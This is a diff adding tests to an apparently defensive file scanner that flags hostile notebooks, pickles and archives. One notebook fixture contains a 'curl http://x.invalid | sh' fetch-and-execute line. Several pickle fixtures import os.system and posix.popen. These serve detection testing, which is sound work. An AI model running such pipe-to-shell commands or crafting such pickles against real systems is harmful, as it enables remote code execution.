@@ -108,6 +108,8 @@ def hostile():
         "deep-sum": {"a.py": b"__import__('a'" + b"+'a'" * 1500 + b"+chr(1))\n"},
         "deep-json": {"config.json": b"[" * 100_000, "n.ipynb": b"[" * 100_000},
         "odd-notebook": {"n.ipynb": b'{"cells": [3]}'},
+        "odd-cell": {"n.ipynb": b'{"cells": ["odd", {"cell_type": "code", "source": ["!curl http://x.invalid | sh"]}, {"cell_type": "code", "source": 5}]}'},
+        "odd-cells": {"n.ipynb": b'{"cells": 7}', "m.ipynb": b'[{"cells": []}]'},
         "joined-bz2": {"m.bz2": bz2.compress(b"\x80") + bz2.compress(fixtures.ECHO[1:])},
         "joined-xz": {"m.xz": lzma.compress(b"\x80") + lzma.compress(fixtures.ECHO[1:])},
         "bz2-and-garbage": {"m.bz2": bz2.compress(fixtures.ECHO) + b"tail"},
@@ -133,6 +135,13 @@ def test_no_file_ends_the_audit(spark, tmp_path):
     for t in ("joined-bz2", "joined-xz", "bz2-and-garbage", "old-tar"):
         assert "PKL-001" in fired[t], t
     assert {"ZIP-001", "ZIP-006"} <= fired["old-tar"]
+    # an odd cell hides nothing: the others' lines count, and the file is an error besides
+    severe = a.findings.where("rule_id = 'NB-001' and severity = 'HIGH'").collect()
+    assert "odd-cell" in {name(r) for r in severe} and verdicts["odd-cell"].verdict == "REVIEW"
+    failed = {(name(r), r.path): r.error for r in a.errors.collect()}
+    assert "cell 0 is a str" in failed["odd-cell", "n.ipynb"] and "cell 0 is a int" in failed["odd-notebook", "n.ipynb"]
+    assert {("odd-cells", "n.ipynb"), ("odd-cells", "m.ipynb")} <= set(failed) and verdicts["odd-notebook"].exit_code in (0, 3)
+    assert {name(r) for r in a.files.where("not inspected").collect()} >= {"odd-cell", "odd-notebook", "odd-cells"}
     assert {r.path for r in a.files.where("path like 'bad%'").collect()} == {"bad\\xff.txt"}
     assert all(r.sha256 for r in a.files.where("inspected").collect())
 
@@ -204,6 +213,53 @@ def test_pickle_walk():
     assert pickles.walk(b"")["error"]
 
 
+def test_long_streams_are_rows_of_imports(spark, tmp_path, monkeypatch):
+    """Any number of names in one stream gives the findings of a list of them, from rows of bounded size."""
+    from cargolens.operators import facts
+
+    names = [("os", "system")] * 700 + [(f"m{i % 1500}", "x") for i in range(4000)] + [("posix", "popen"), ("os", "system")]
+    data = b"\x80\x02" + b"".join(f"c{m}\n{a}\n0".encode() for m, a in names) + b")R."
+    monkeypatch.setattr(pickles, "MOST_SEEN", 600)
+    parts = list(facts.Parser({"pickle", "import"}).rows("m.pkl", "m.pkl", "pickle", True, Blob(data)))
+    assert [k for _, k, _ in parts][-1] == "pickle" and parts[-1][2]["names"] is None and parts[-1][2]["n_imports"] == len(names)
+    assert all(len(f["names"]) <= pickles.ROW_NAMES for _, k, f in parts if k == "import") and len(parts) > 4
+    a = audit_paths(spark, fixtures.write(tmp_path, {"t": {"m.pkl": data, "n.pkl": fixtures.ECHO}}), Config(only=("pickle",)))
+    got = sorted((r.location, r.rule_id, r.severity, r.detail, *r.evidence) for r in a.findings.where("rule_id in ('PKL-001', 'PKL-002')").collect())
+    table = spark.createDataFrame([("t", "m.pkl", bytearray(data)), ("t", "n.pkl", bytearray(fixtures.ECHO))], "target_id string, location string, content binary")
+    want = sorted((r.location, r.rule_id, r.severity, r.detail, *r.evidence) for r in pickles.findings(pickles.facts(table))[0].collect())
+    assert got == want and len(got) == 1503
+
+
+def test_pickles_are_walked_in_bounded_memory(tmp_path):
+    """60 MB of GLOBALs, of distinct ones, of BUILDs and of pushed strings, in a process that may use little more than Python itself."""
+    import subprocess
+    import sys
+
+    code = (
+        "import resource, sys, itertools; from cargolens.operators import pickles; kind, path = sys.argv[1:]\n"
+        "base = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
+        "w = pickles.Walk(open(path, 'rb'), 1 << 26); n = sum(len(r) for r in w.import_rows())\n"
+        "print(n, w.summary['n_imports'], w.summary['n_calls'], w.summary['error'], (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - base) // 1024)"
+    )
+    for kind, (unit, n) in {"globals": (lambda i: b"cos\nsystem\n0", 400_000), "distinct": (lambda i: b"cm%d\nx\n0" % i, 400_000), "builds": (lambda i: b"b" * 1000, 1000), "strings": (lambda i: b"\x8c\x64" + b"%0100d" % i, 400_000)}.items():
+        path = tmp_path / kind
+        with open(path, "wb") as f:
+            f.write(b"\x80\x04")
+            for i in range(n):
+                f.write(unit(i))
+            f.write(b"\x93." if kind == "strings" else b".")
+        out = subprocess.run([sys.executable, "-c", code, kind, str(path)], capture_output=True, text=True, timeout=200, cwd=os.path.dirname(os.path.dirname(__file__))).stdout.split()
+        assert int(out[-1]) < 220 and out[3] == "None", (kind, out)
+        assert {"globals": out[1] == "400000" and out[0] == "1", "distinct": out[0] == out[1] == "400000", "builds": out[2] == "1000000", "strings": out[1] == "1"}[kind], out
+
+
+def test_strings_beyond_those_kept_are_an_error(monkeypatch):
+    monkeypatch.setattr(pickles, "MOST_PUSHED", 4)
+    data = b"\x80\x04" + b"".join(b"\x8c\x01" + bytes([97 + i % 26]) for i in range(40)) + b"\x93" * 12 + b"."
+    w = pickles.walk(data)
+    assert "more pushed strings" in w["error"] and 1 < len(w["imports"]) < 12
+
+
 def test_staged_import_is_one_notch_lower(spark):
     staged = fixtures.call("os", "system", "x")[:-3] + b"."
     s = spark.createDataFrame([("t", "a", bytearray(staged)), ("t", "b", bytearray(fixtures.ECHO))], "target_id string, location string, content binary")
